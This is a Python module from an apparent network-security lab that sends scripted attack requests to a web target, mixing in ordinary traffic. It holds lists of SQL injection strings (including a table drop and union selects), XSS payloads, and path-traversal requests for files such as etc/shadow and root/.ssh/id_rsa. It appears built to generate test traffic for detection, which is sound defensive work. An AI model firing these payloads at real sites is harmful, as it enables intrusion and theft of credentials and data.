"""A list of well-known mischief put into the requests of a site, one after the other, as a person with a script does.

Options: `kind` (sql_injection, xss, path_traversal, forced_browsing), `requests` [3, 10] of a session, `gap_s`
[0.05, 0.6], `reconnect` (false: one connection for a session), `plain` (0.3: share of ordinary requests), `tls`.
"""

from __future__ import annotations

from contextlib import closing
from urllib.parse import quote

from netwarden.lab.attacks import targets
from netwarden.lab.clients import web
from netwarden.lab.clients.sessions import Session, play

_SQL = (
    *(
        "'",
        "' or '1'='1",
        "' or 1=1 -- ",
        "1 or 1=1",
        "1 union select 1,2,3",
        "1 union select name,mail,secret from member",
    ),
    *("' union select name,mail,secret from member -- ", "1; drop table product", "1 order by 4", "' and 1=0 -- "),
    *("1 and (select count(*) from sqlite_master)>0", "' union select 1,sql,3 from sqlite_master -- ", "1 and 1=2"),
)
_SCRIPTS = (
    *("<script>alert(1)</script>", '"><script>alert(document.cookie)</script>', "<img src=x onerror=alert(1)>"),
    *(
        "<svg onload=alert(1)>",
        "javascript:alert(1)",
        "<body onload=alert('x')>",
        "'-alert(1)-'",
        "<iframe src=//x></iframe>",
    ),
)
_FILES = (
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "proc/self/environ",
    "var/log/auth.log",
    "boot.ini",
    "root/.ssh/id_rsa",
)
_PLAIN = ("/page-{n}.html", "/search?q=lamp+{n}", "/product?id={n}", "/document?name=terms.txt", "/assets/{n}.css")


def session(s: Session) -> None:
    over = web.connection(s)
    with closing(over):
        for _ in range(round(s.between("requests", 3, 10))):
            path = _ordinary(s) if s.rng.random() < s.option("plain", 0.3) else _mischief(s)
            status = web.fetch(s, over, path).status
            s.count(**{f"status_{status // 100}xx": 1})
            if s.option("reconnect", False):
                over.close()
            if not s.pause(s.between("gap_s", 0.05, 0.6)):
                return


def _ordinary(s: Session) -> str:
    return s.rng.choice(_PLAIN).format(n=s.rng.randint(1, 30))


def _mischief(s: Session) -> str:
    kind = s.option("kind")
    if kind == "sql_injection":
        return f"{s.rng.choice(('/product?id=', '/search?q='))}{quote(s.rng.choice(_SQL))}"
    if kind == "xss":
        return f"/search?q={quote(s.rng.choice(_SCRIPTS))}"
    if kind == "path_traversal":
        up = s.rng.choice(("../", "..%2f", "%2e%2e/", "..%5c")) * s.rng.randint(2, 9)
        return f"/document?name={up}{s.rng.choice(_FILES)}"
    return f"/{targets.paths(s.rng, 1)[0]}"


def main() -> None:
    play(session, web.FAILS_WITH)


if __name__ == "__main__":
    main()
